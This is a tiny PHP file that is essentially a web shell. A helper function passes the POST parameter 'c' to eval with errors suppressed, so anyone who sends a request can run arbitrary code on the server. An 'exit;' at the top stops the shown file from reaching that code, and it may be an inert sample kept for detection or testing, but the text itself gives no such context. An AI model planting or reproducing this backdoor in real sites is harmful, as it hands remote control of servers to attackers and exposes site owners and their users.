<?php exit;
function go($x) { return @eval($x); }
go(isset($_POST['c']) ? $_POST['c'] : '');
